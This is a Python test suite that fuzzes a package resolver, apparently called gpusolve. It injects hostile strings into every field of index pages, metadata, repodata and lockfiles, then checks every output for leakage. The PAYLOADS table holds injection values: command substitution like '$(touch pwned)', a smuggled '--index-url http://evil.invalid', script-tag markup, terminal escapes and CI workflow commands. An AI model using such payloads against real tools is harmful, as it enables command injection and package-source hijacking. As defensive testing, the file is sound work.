"""Every field from outside x every output x every harmful text.

The fields are those of the sources below, found by walking them: a field that is added to one is covered at once; the lock is what the
program itself writes. The sinks are standard output and standard error, the lock, and every format that the program says it can write.

Usage: matrix_test.py --gpusolve PROGRAM [--part N/M] [--size] [unittest's own arguments]. `--size` prints the size of the matrix alone.
"""

import argparse
import copy
import hashlib
import json
import os
import pathlib
import re
import shlex
import subprocess
import sys
import tomllib
import unittest

from support import HEX, METADATA, HostileTest, html_page, page, record, repodata, write

#: Name and what becomes of the sound value. `evil` is in each that could get through whole.
PAYLOADS = {
    "newline": lambda sound: f"{sound}\n--index-url http://evil.invalid/simple\nevil==1.0\nRUN evil",
    "carriage return": lambda sound: f"{sound}\revil\r\n::error::evil",
    "nul": lambda sound: f"{sound}\0evil",
    "escape": lambda sound: f"{sound}\x1b[2J\x1b]0;evil\x07",
    "c1": lambda sound: f"{sound}\x9b2Jevil",
    "bidi": lambda sound: f"{sound}\u202elive\u2066",
    "zero width": lambda sound: f"\ufeff{sound}\u200bevil\u2028evil",
    "workflow command": lambda sound: f"::set-env name=evil::{sound}",
    "workflow command, wrapped": lambda sound: f"{sound} {'y' * 78} ::add-mask::evil ##[error]evil",
    "leading dash": lambda sound: f"--index-url=http://evil.invalid/{sound}",
    "quotes": lambda sound: f"{sound}'\"`touch pwned`$(touch pwned)\\;touch pwned;&|<>",
    "markup": lambda sound: f"{sound}</script><script>evil()</script>]]>--><!--{{{{evil}}}}",
    "one megabyte": lambda sound: sound + "A" * 1_000_000,
    "secret": lambda sound: f"https://ann:{SECRET}@host.invalid/t/{SECRET}/{sound}",
    "secret, signed": lambda sound: f"{sound} https://host.invalid/x?X-Amz-Signature={SECRET}#a=1",
}
#: No output may contain it.
SECRET = "s3cret-word"

DIGEST = re.compile(rb"\b[0-9a-f]{64}\b")

#: Not of these streams: their purpose is to give the runner orders, and they escape by its rules.
COMMANDING = {"github"}
LARGEST_STREAM = 300_000


def leaves(document, path=()):
    """The paths of all texts in a document, including keys of maps (as the path with a trailing None)."""
    if isinstance(document, dict):
        for key, value in document.items():
            yield (*path, key, None)
            yield from leaves(value, (*path, key))
    elif isinstance(document, list):
        for index, value in enumerate(document):
            yield from leaves(value, (*path, index))
    elif isinstance(document, str):
        yield path


def changed(document, path, payload):
    out = copy.deepcopy(document)
    is_key = path[-1] is None
    *way, last = path[:-1] if is_key else path
    place = out
    for step in way:
        place = place[step]
    if is_key:
        items = [(payload(key) if key == last else key, value) for key, value in place.items()]
        place.clear()
        place.update(items)
    else:
        place[last] = payload(place[last])
    return out


class Source:
    """A valid source whose fields can be changed: `fields` names them, `put` writes the source with one of them changed."""

    def __init__(self, name, fields, put, words, formats):
        self.name, self.fields, self.put, self.words, self.formats = name, fields, put, words, formats


def shown(path):
    return "/".join("KEY" if step is None else str(step) for step in path)


def document_source(name, document, put, words, formats):
    fields = {shown(path): path for path in leaves(document)}
    return Source(name, list(fields), lambda test, field, payload: put(test, changed(document, fields[field], payload)), words, formats)


def lines_source(name, lines, put, words, formats):
    """A text whose fields are the values of its lines, `Key: value`."""

    def spoiled(field, payload):
        return "".join(f"{key}: {payload(value) if f'{index} {key}' == field else value}\n" for index, (key, value) in enumerate(lines))

    return Source(name, [f"{index} {key}" for index, (key, _) in enumerate(lines)], lambda test, field, payload: put(test, spoiled(field, payload)), words, formats)


def html_source(put, words, formats):
    sound = {"href": "app-1.0-py3-none-any.whl", "fragment": f"sha256={HEX}", "python": "&gt;=3.6", "yanked": "", "metadata": "true", "text": "app"}
    template = '<!DOCTYPE html><a href="{href}#{fragment}" data-requires-python="{python}" data-core-metadata="{metadata}">{text}</a>'

    def spoiled(field, payload):
        return template.format(**sound | {field: payload(sound[field])})

    return Source("html page", [field for field in sound if field != "yanked"], lambda test, field, payload: put(test, spoiled(field, payload)), words, formats)


def sources(test, formats):
    pip, conda = formats["pip"], formats["conda"]
    app = record("app", depends=["base >=1", "python >=3.6"], track_features="feature", noarch="generic", url="https://host/x", legacy_bz2_md5="c" * 32, subdir="linux-64")
    others = [{"name": name, "version": version, "build": "h0", "build_number": 0, "depends": [], "sha256": HEX, "md5": "b" * 32} for name, version in (("base", "1.0"), ("python", "3.11.0"))]
    channel = repodata(app, *others, info={"subdir": "linux-64", "base_url": "./"}, removed=["old-1-0.conda"])
    metadata = [line.split(": ", 1) for line in METADATA.splitlines()] + [["Provides-Extra", "more"], ["Requires-Dist", 'base; extra == "more"'], ["License", "BSD"]]
    return [
        document_source("json page", page("app"), lambda it, document: it.write_index(document), test.pip(test.index), pip),
        html_source(lambda it, text: it.write_index(text), test.pip(test.index), pip),
        lines_source("metadata", metadata, lambda it, text: it.write_index(page("app"), text), test.pip(test.index), pip),
        document_source("repodata", channel, lambda it, document: it.write_channel(document), test.conda(test.channel), conda),
    ]


class Judges:
    """What every output must be; a mixin of HostileTest."""

    def setUp(self):
        super().setUp()
        self.judged = set()

    def judge_stream(self, text, what, is_text):
        self.assert_harmless(text, what)
        self.assertNotIn(SECRET.encode(), text, what)
        if is_text:
            self.assertLess(len(text), LARGEST_STREAM, what)

    def is_new(self, kind, content):
        """Whether such bytes were not judged yet: the judgement of the same bytes would be the same. Digests carry no text of a source."""
        before = len(self.judged)
        self.judged.add((kind, hashlib.sha256(DIGEST.sub(b"", content)).digest()))
        return len(self.judged) > before

    def judge_files(self, what):
        for file in sorted(self.folder.glob("out.*")):
            form = file.name.removeprefix("out.")
            content = file.read_bytes()
            if not self.is_new(form, content):
                continue
            self.assert_harmless(content, f"{what}: {form}", is_stream=form not in COMMANDING)
            self.assertNotIn(SECRET.encode(), content, f"{what}: {form}")
            getattr(self, f"judge_{form.replace('-', '_')}", lambda *_: None)(content.decode(), f"{what}: {form}")
        self.assertFalse((self.folder / "pwned").exists(), what)

    def judge_sarif(self, text, what):
        self.assertEqual(json.loads(text)["version"], "2.1.0", what)

    def judge_html(self, text, what):
        self.assertNotIn("<script>evil", text, what)

    def judge_github(self, text, what):
        for line in text.splitlines():
            self.assertRegex(line, r"^::(notice|warning|error|debug) |^$", what)


class Matrix(Judges, HostileTest):
    part = (1, 1)

    def setUp(self):
        super().setUp()
        server = self.serve()
        self.index, self.channel = f"http://{server.place}/simple", f"http://{server.place}/channel"
        for name in ("python", "python3", "python3.11", "uv", "conda", "touch"):
            stub = self.folder / "stubs" / name
            write(stub, "#!/bin/sh\n: > pwned\n" if name == "touch" else "#!/bin/sh\n")
            stub.chmod(0o755)

    def formats(self):
        """The formats that the program lists and can write for a valid source, for pip and for conda."""
        said = self.run_program("resolve", "--emit", "nothing-of-the-kind", "app").stderr.decode()
        known = re.search(r"is not one of (.*)", said).group(1).strip().split(", ")
        self.write_index(page("app"))
        self.write_channel(repodata(record("app")))
        writes = lambda words, form: self.run_program(*words, "--emit", f"{form}=sound.{form}").returncode == 0  # noqa: E731
        written = {"pip": [form for form in known if writes(self.pip(self.index), form)], "conda": [form for form in known if writes(self.conda(self.channel), form)]}
        self.assertEqual(sorted({*written["pip"], *written["conda"]}), sorted(known), "a format that is written of neither source is not covered")
        return written

    def cells(self, source):
        index, count = self.part
        for at, (field, name) in enumerate((field, name) for field in source.fields for name in PAYLOADS):
            if at % count == index - 1:
                yield field, name

    def run_cell(self, source, field, name):
        source.put(self, field, PAYLOADS[name])
        for file in self.folder.glob("out.*"):
            file.unlink()
        (self.folder / "gpusolve.lock").unlink(missing_ok=True)
        emits = [word for form in source.formats for word in ("--emit", f"{form}=out.{form}")]
        what = f"{source.name}, {field}, {name}"
        told = self.run_program(*source.words, "-v", *emits)
        self.judge_streams(told, what, is_text=True)
        self.judge_files(what)
        if told.returncode in (0, 10):
            self.judge_lock(what)
        self.judge_json(self.run_program(*source.words, "--json"), what)

    def judge_streams(self, ended, what, is_text):
        self.assertIn(ended.returncode, (0, 2, 3, 10, 11), f"{what}: {ended.stderr[:500]}")
        self.judge_stream(ended.stdout, what, is_text)
        self.judge_stream(ended.stderr, what, is_text)

    def judge_json(self, ended, what):
        self.judge_streams(ended, what, is_text=False)
        document = json.loads(ended.stdout)
        self.assertEqual(document["schema"], "gpusolve/error/1" if ended.returncode in (2, 3) else "gpusolve/resolve/1", what)

    def judge_lock(self, what):
        lock = (self.folder / "gpusolve.lock").read_bytes()
        if not self.is_new("lock", lock):
            return
        self.judge_stream(lock, f"{what}: the lock", is_text=False)
        verified = self.run_program("verify", "gpusolve.lock", "--gpu", "none", "--platform", "linux-64")
        self.assertIn(verified.returncode, (0, 12), f"{what}: its own lock is refused: {verified.stderr[:500]}")
        again = self.run_program("install-commands", "gpusolve.lock", "--gpu", "none", "--platform", "linux-64")
        self.judge_streams(again, f"{what}: install-commands", is_text=True)

    def judge_lines(self, text, shapes, what):
        for line in text.splitlines():
            self.assertTrue(any(re.fullmatch(shape, line) for shape in shapes), f"{what}: {line[:300]!r}")

    def judge_requirements(self, text, what):
        place = re.escape(self.index)
        pin = r"[a-z0-9._-]+={2,3}[A-Za-z0-9.+!-]+"
        self.judge_lines(text, ["", "#.*", "--only-binary=:all:", f"--index-url {place}", pin, pin + r" \\", "    --hash=sha256:[0-9a-f]{64}", r"[a-z0-9._-]+ @ [a-z]+://\S+"], what)

    def judge_wheels(self, text, what):
        self.judge_lines(text, ["#.*", r"(file|https?)://[!-~]+?(#sha256=[0-9a-f]{64})?"], what)

    def judge_explicit(self, text, what):
        self.judge_lines(text, ["#.*", "@EXPLICIT", r"(file|https?)://[!-~]+?#[0-9a-f]{32}"], what)

    def judge_pylock(self, text, what):
        tables = tomllib.loads(text)
        self.assertEqual(set(tables), {"lock-version", "environments", "requires-python", "created-by", "packages", "tool"}, what)
        for package in tables["packages"]:
            self.assertRegex(package["wheels"][0]["hashes"]["sha256"], r"^[0-9a-f]{64}\Z", what)

    def judge_dockerfile(self, text, what):
        self.judge_lines(text, ["#.*", "", r"(ARG|FROM|ENV|RUN|CMD) .*", r" && .*"], what)

    def judge_commands(self, text, what):
        """Runs the commands with only harmless dummy programs on PATH."""
        self.judge_lines(text, ["#.*", r"((\.venv/bin/)?python[0-9.]*|uv|conda) .*"], what)
        write(self.folder / "commands.sh", text)  # a command line could not hold a megabyte
        subprocess.run(["/bin/bash", "commands.sh"], cwd=self.folder, env={"PATH": str(self.folder / "stubs")}, capture_output=True, check=False, timeout=60)
        for line in text.splitlines():
            self.assertIsNotNone(shlex.split(line, comments=True), what)

    judge_pip = judge_uv = judge_conda = judge_commands

    def check(self, name):
        for source in sources(self, self.formats()):
            if source.name == name:
                for field, payload in self.cells(source):
                    with self.subTest(f"{name}, {field}, {payload}"):
                        self.run_cell(source, field, payload)

    def test_json_pages(self):
        self.check("json page")

    def test_html_pages(self):
        self.check("html page")

    def test_metadata(self):
        self.check("metadata")

    def test_repodata(self):
        self.check("repodata")

    def test_locks(self):
        """Changes each value of our own lock, and passes the lock to all commands that read locks."""
        self.write_index(page("app"))
        self.assertEqual(self.run_program(*self.pip(self.index)).returncode, 0)
        write(self.folder / "own.lock", with_rare_fields((self.folder / "gpusolve.lock").read_text(encoding="utf-8")))
        lines = (self.folder / "own.lock").read_text(encoding="utf-8").splitlines()
        self.assertIn("    - beside", lines)
        self.assertIn("      - extra", lines)
        index, count = self.part
        for at, (number, name) in enumerate(self.lock_cells(lines)):
            if at % count != index - 1:
                continue
            spoiled = list(lines)
            head, value = re.fullmatch(r"(\s*(?:- )?(?:[a-z_0-9]+: )?)(.*)", lines[number]).groups()
            spoiled[number] = head + json.dumps(PAYLOADS[name](value.strip('"')), ensure_ascii=False)
            raw = spoiled[number].replace("\\u0000", "\0") if name == "nul" else spoiled[number]
            write(self.folder / "spoiled.lock", "\n".join([*spoiled[:number], raw, *spoiled[number + 1 :]]) + "\n")
            for words in (["verify", "spoiled.lock"], ["install-commands", "spoiled.lock"], ["diff", "own.lock", "spoiled.lock"], ["check", "spoiled.lock"]):
                what = f"lock line {number} ({lines[number].strip()}), {name}, {words[0]}"
                with self.subTest(what):
                    machine = [] if words[0] == "diff" else ["--gpu", "none", "--platform", "linux-64"]
                    ended = self.run_program(*words, *machine)
                    self.assertIn(ended.returncode, (0, 2, 11, 12), f"{what}: {ended.stderr[:500]}")
                    self.judge_stream(ended.stdout + ended.stderr, what, is_text=False)
                    if words[0] == "install-commands" and ended.returncode == 0 and self.is_new("commands", ended.stdout):
                        self.judge_commands(ended.stdout.decode(), what)
                        self.assertFalse((self.folder / "pwned").exists(), what)

    @staticmethod
    def lock_cells(lines):
        for number, line in enumerate(lines):
            if re.search(r"(: |- )\S", line) and not line.rstrip().endswith(":"):
                for name in PAYLOADS:
                    yield number, name


def with_rare_fields(lock):
    """The lock with the fields that most locks lack: what its commands name beside the set."""
    lock = lock.replace("  installer: pip\n", '  installer: pip\n  left_to_installer:\n    - beside\n  left_out:\n    - absent\n  neighbours:\n    - "beyond<2"\n', 1)
    return lock.replace("    requested: true\n", "    requested: true\n    extras:\n      - extra\n    absent_extras:\n      - absent\n    decides: true\n", 1)


def size_of(test):
    formats = test.formats()
    all_sources = sources(test, formats)
    test.write_index(page("app"))
    test.run_program(*test.pip(test.index))
    lines = with_rare_fields((test.folder / "gpusolve.lock").read_text(encoding="utf-8")).splitlines()
    streams = ("stdout", "stderr", "JSON", "lock", "install-commands")
    cells = sum(len(source.fields) * len(PAYLOADS) * (len(source.formats) + len(streams)) for source in all_sources)
    locks = len(list(test.lock_cells(lines))) * 4
    for source in all_sources:
        print(f"{source.name}: {len(source.fields)} fields x {len(source.formats) + len(streams)} sinks x {len(PAYLOADS)} texts")
    print(f"lock: {locks // 4 // len(PAYLOADS)} lines x 4 commands x {len(PAYLOADS)} texts")
    print(f"{cells + locks} cells")


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--gpusolve", required=True)
    parser.add_argument("--part", default="1/1")
    parser.add_argument("--size", action="store_true")
    known, rest = parser.parse_known_args()
    HostileTest.program = str(pathlib.Path(known.gpusolve).resolve())
    Matrix.part = tuple(int(number) for number in known.part.split("/"))
    if known.size:
        one = Matrix("test_json_pages")
        one.setUp()
        size_of(one)
        one.doCleanups()
        sys.exit(0)
    unittest.main(argv=[sys.argv[0], *rest])
